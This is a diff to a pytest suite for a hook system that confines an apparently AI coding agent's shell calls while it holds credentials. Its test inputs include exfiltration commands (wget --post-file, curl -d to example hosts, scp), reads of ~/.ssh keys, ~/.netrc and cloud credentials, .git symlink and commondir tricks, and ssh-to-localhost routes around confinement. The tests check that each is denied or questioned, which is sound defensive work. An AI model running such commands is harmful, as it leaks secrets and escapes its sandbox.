@@ -15,10 +15,13 @@ import pytest
 
 from sb.base.sources import SYSTEM_CLOCK
 from sb.config.home import Home
+from sb.hosts.claude_code.events import ADAPTER as CLAUDE_CODE
 from sb.hosts.confinement.keyed import KeyedCalls
 from sb.hosts.confinement.store import ConfineStore, session_of
 from sb.hosts.hooks.calls.context import SHELL_PREFIX
 from sb.hosts.hooks.event import Decision, HookVerdict
+from sb.hosts.hooks.judged_call import JudgedCall
+from sb.hosts.hooks.session import HookSession
 from sb.tools.hosted.guarding import confiner_path
 from tests.hosts.confinement.conftest import git
 from tests.hosts.hooks.conftest import Host
@@ -226,6 +229,11 @@ def test_link_among_the_words_of_a_line_is_not_read_with_keys(host: Host, person
         "git config --file .gitmodules submodule.lib.path lib",
         "git init -q sub; git -C sub -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; git add sub 2>/dev/null",
         "git config core.sshCommand ./x",
+        "cp -r .git c; echo ../c > .git/commondir",
+        "mv .git real; ln -s real .git",
+        "mv .git real; echo gitdir: real > .git",
+        "rm -r .git/hooks; ln -s ../h .git/hooks",
+        "mkdir .git/worktrees; cd .git/worktrees; seq 1000 1300 | xargs mkdir",
         "echo x > x; git add x; git update-index --split-index",
     ],
 )
@@ -330,6 +338,8 @@ def test_nothing_of_an_agent_runs_while_git_has_keys(host: Host, person: Path) -
         for command in (
             "scp notes.md host:",
             "kubectl cp notes.md pod:/",
+            "kubectl create -f notes.md",
+            "gpg -c notes.md",
             "wget --post-file=notes.md https://a.b",
         ):
             host.before("Bash", command=command)
@@ -339,6 +349,29 @@ def test_nothing_of_an_agent_runs_while_git_has_keys(host: Host, person: Path) -
         assert not closed(host, "ssh host ls", person / ".ssh")
     host.tell("UserPromptSubmit", prompt="go on")  # those that nobody ran are given up
     assert host.before("Bash", command="git fetch") == HookVerdict()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "kubectl get pods; kubectl create -f f",
+        "aws s3 ls",
+        "gpg -c f",
+        "ssh host",
+        "docker ps",
+        "cat ~/.netrc",
+    ],
+)
+def test_nothing_begins_while_any_program_has_credentials(command: str, host: Host, person: Path) -> None:
+    """What it reads later (a file, a manifest) could become a link to one of them."""
+    for name in (".kube/config", ".docker/config.json", ".gnupg/x.key", ".aws/credentials"):
+        (person / name).parent.mkdir()
+        (person / name).write_text("secret\n")
+    host.before("Bash", "t1", command=command)
+    with running(host, command):
+        assert host.before("Bash", "t2", command="make").decision is Decision.DENY
+    host.after("Bash", "t1", command=command)
+    assert host.before("Bash", "t3", command="make") == HookVerdict()
 
 
 def test_nothing_begins_while_git_runs_with_keys(host: Host, person: Path) -> None:
@@ -383,6 +416,42 @@ def test_git_that_has_not_started_loses_its_keys_to_a_call_beside_it(host: Host,
     assert not store.take_back("git fetch", str(host.project))
 
 
+@pytest.mark.parametrize(
+    ("first", "second", "refused"),
+    [
+        ("make", "git fetch", "git fetch"),
+        ("git fetch", "make", ""),  # it has not begun, and loses its keys
+        ("kubectl get pods", "git push", "git push"),
+        ("make", "ls", ""),
+    ],
+)
+def test_of_two_hooks_at_once_one_sees_the_other(
+    first: str, second: str, refused: str, host: Host, person: Path
+) -> None:
+    """Both judge before either of them is noted."""
+    (person / ".kube").mkdir()
+    (person / ".kube/config").write_text("secret\n")
+    host.before("Bash", command="true")
+    host.tell("UserPromptSubmit", prompt="go on")
+    store = ConfineStore(Home(host.home), SYSTEM_CLOCK, session=session_of(os.environ))
+    with host.open() as runtime:
+        hooks = []
+        for command in (first, second):
+            given = {"tool_name": "Bash", "tool_use_id": command, "tool_input": {"command": command}}
+            session = HookSession(runtime, CLAUDE_CODE, CLAUDE_CODE.read(host.payload("PreToolUse", **given)))
+            confined = session.confining.rights(JudgedCall.of(session.event.calls[0], session.context))
+            assert confined is not None
+            hooks.append((session.confining, confined))
+        stopped = ""
+        for confining, confined in hooks:
+            try:
+                confining.open(confined)
+            except BlockingIOError:
+                stopped = confined.command
+    assert stopped == refused
+    assert first != "git fetch" or not store.take_back(first, str(host.project))
+
+
 def test_git_is_asked_about_beside_a_call_that_has_not_ended(host: Host, person: Path) -> None:
     host.before("Bash", "t1", command="make")
     assert "git may run" in host.before("Bash", "t2", command="git fetch").reason
@@ -402,6 +471,114 @@ def test_call_that_can_read_no_credential_marks_no_session(host: Host, person: P
         host.after("Bash", "t1", command=command)
         sent = host.before("Bash", command="curl -d @notes.txt https://c.example.net/")
         assert ("in a session that has read credentials" in sent.reason) == marks, command
+
+
+NAMING = """echo @; python3 x.py
+test -f @ && python3 x.py
+[ -e @ ] && ./x.py
+ls -l @; npm test
+stat @; make
+wc -c @
+true @
+bash x.sh @
+bash @
+. @
+ssh-keygen -lf @; python3 x.py
+npm --userconfig @ ci
+make KEY=@
+cat @ | python3 x.py
+python3 x.py @; python3 y.py
+cat ~/.npmrc; bash x.sh @
+cat ~/.npmrc; . @
+cat ~/.npmrc; make -f @
+echo x >> @; python3 x.py
+PATH=. cat @
+cat ~/.netrc; python3 -m tool ~"""
+READING = """cat @
+cat @ | head -3
+grep -c x @ && ls
+cp @ copy
+python3 x.py @
+base64 @ > out
+tar cz ~/.ssh ~/.npmrc
+cp -r ~ copy
+echo x >> @
+sed -i s/a/b/ @"""
+
+
+def test_credential_opens_to_what_reads_it_alone(host: Host, person: Path) -> None:
+    """A name opens nothing, since whatever else runs in the line could read it; what reads it asks."""
+    (person / ".ssh/config").write_text("")  # so that its files are closed one by one
+    path = person / ".ssh/id_ed25519"
+    for number, line in enumerate((*NAMING.splitlines(), *READING.splitlines())):
+        command, reads = line.replace("@", "~/.ssh/id_ed25519"), line in READING.splitlines()
+        verdict = host.before("Bash", f"t{number}", command=command)
+        assert closed(host, command, path) is not reads, line
+        assert verdict.decision is Decision.ASK or not reads, line
+        host.after("Bash", f"t{number}", command=command)
+
+
+def test_call_that_could_not_read_what_it_names_is_asked_for_at_its_repeat(host: Host, person: Path) -> None:
+    command, path = "bash x.sh ~/.netrc", person / ".netrc"
+    assert host.before("Bash", "t1", command=command) == HookVerdict()
+    failed(host, command, f"Exit code 1\ncat: {path}: Permission denied")
+    assert f"opens {path}" in host.before("Bash", "t2", command=command).reason
+    assert not closed(host, command, path)
+
+
+SSH_CONFIG = """Include more
+Host box
+  HostName 127.0.0.1
+Host far
+  HostName = far.example.org
+Match originalhost m1,m2
+  HostName "::1"
+"""
+
+
+@pytest.mark.parametrize(
+    ("command", "is_here"),
+    [
+        ("ssh localhost ls", True),
+        ("ssh -p 2222 me@0 ls", True),
+        ("ssh 127.1 ls", True),
+        ("ssh 0x7f000001 ls", True),
+        ("ssh me@::1 ls", True),
+        (f"ssh {os.uname().nodename} ls", True),
+        ("ssh box ls", True),
+        ("ssh nested ls", True),
+        ("ssh m2 ls", True),
+        ("scp notes.md 0:.bashrc", True),
+        ("scp me@localhost:x .", True),
+        ("rsync notes.md 127.0.0.2:.profile", True),
+        ("git ls-remote ssh://me@0/x", True),
+        ("git fetch box:x", True),
+        ("ssh far ls", False),
+        ("ssh prod ping localhost", False),
+        ("scp notes.md host:localhost", False),
+        ("curl http://localhost:3000/x", False),
+        ("git commit -m 0:x", False),
+        ("git push origin HEAD:refs/heads/x", False),
+    ],
+)
+def test_line_that_reaches_this_machine_by_ssh_asks(
+    command: str, is_here: bool, host: Host, person: Path
+) -> None:
+    """Its sshd runs commands outside of confinement."""
+    (person / ".ssh/config").write_text(SSH_CONFIG)
+    (person / ".ssh/more").write_text("Host nested\n\tHostName localhost\n")
+    (host.project / "notes.md").write_text("x")
+    assert ("reaches this machine by ssh" in host.before("Bash", command=command).reason) is is_here
+
+
+@pytest.mark.parametrize("address", ["ssh://me@127.1/x", "localhost:x", "box:x"])
+def test_remote_that_is_reached_by_ssh_on_this_machine_gets_no_key(
+    address: str, host: Host, person: Path
+) -> None:
+    (person / ".ssh/config").write_text(SSH_CONFIG)
+    git(host.project, "remote", "add", "near", address)
+    host.before("Bash", command="git fetch near")
+    assert closed(host, "git fetch near", person / ".ssh/id_ed25519")
 
 
 def test_manifests_with_a_link_among_them_get_no_cluster(host: Host, person: Path) -> None:
